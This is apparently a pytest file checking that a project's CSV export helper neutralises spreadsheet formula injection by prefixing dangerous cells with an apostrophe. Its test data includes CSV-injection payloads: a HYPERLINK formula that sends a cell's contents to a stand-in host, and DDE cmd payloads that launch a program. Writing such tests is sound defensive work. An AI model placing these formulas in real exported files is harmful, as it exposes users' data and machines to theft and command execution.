"""Every CSV counterflow writes is safe to open: formula cells are neutralised, through one helper."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pandas as pd
import pytest

from intel.csvsafe import csv_writer, frame_to_csv, safe_cell
from intel.db import session_scope
from intel.ingest import ingest_file

ROOT = Path(__file__).resolve().parents[2]
PRODUCT = ("intel", "hotspots", "campaigns", "flows", "cli", "web", "sandbox")
#: Writers that do not write a file a person opens: ``raw_line`` re-serialises a row in memory
#: (the rejects writer neutralises it when it reaches a file); the build scripts write data files
#: shipped with the package from curated tables, read back only by counterflow.
ALLOWED = {
    "intel/csvsafe.py",
    "intel/ingest/readers.py",
    "intel/data/build_countries.py",
    "intel/data/build_country_points.py",
}


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"click")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        ),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-7.9", "-7.9"),
        ("+3", "+3"),
        ("Benin City", "Benin City"),
        ("a=b", "a=b"),
        ("", ""),
        (-4, -4),
        (None, None),
    ],
)
def test_safe_cell(cell, shown):
    assert safe_cell(cell) == shown


def test_no_csv_is_written_but_through_the_helper():
    offenders = []
    pattern = re.compile(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(|\bwriter\(fh")
    for room in PRODUCT:
        for path in sorted((ROOT / room).rglob("*.py")):
            rel = path.relative_to(ROOT).as_posix()
            if rel in ALLOWED:
                continue
            for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
                if pattern.search(line):
                    offenders.append(f"{rel}:{n}: {line.strip()}")
    assert offenders == [], "write CSV through intel.csvsafe (csv_writer, frame_to_csv):\n" + "\n".join(
        offenders
    )


def test_the_rejects_file_neutralises_formulas(engine, settings, tmp_path):
    path = tmp_path / "reports.csv"
    path.write_text(
        "date,place,summary\n"
        "2023-01-05,Benin City,fine\n"
        "=HYPERLINK(A1),Agadez,x\n"
        "-2+3+cmd|' /C calc'!A0,Agadez,y\n",
        encoding="utf-8",
    )
    with session_scope(engine) as s:
        summary = ingest_file(s, path=path, settings=settings)
    assert summary.rows_rejected == 2 and summary.rejects_path is not None
    with open(summary.rejects_path, encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["raw"] for r in rows] == ["'=HYPERLINK(A1),Agadez,x", "'-2+3+cmd|' /C calc'!A0,Agadez,y"]
    assert [r["line"] for r in rows] == ["3", "4"]


def test_frame_export_neutralises_formulas(tmp_path):
    frame = pd.DataFrame({"locale": ["=1+1", "fr"], "tips": ["<3", "12"], "n": [-1, 4]})
    text = frame_to_csv(frame)
    assert text == "locale,tips,n\n'=1+1,<3,-1\nfr,12,4\n"
    out = tmp_path / "x.csv"
    frame_to_csv(frame, out)
    assert out.read_text() == text
    with open(tmp_path / "w.csv", "w", newline="") as fh:
        csv_writer(fh, lineterminator="\n").writerows([["@a", "b"], ["-1", "+x"]])
    assert (tmp_path / "w.csv").read_text() == "'@a,b\n-1,'+x\n"
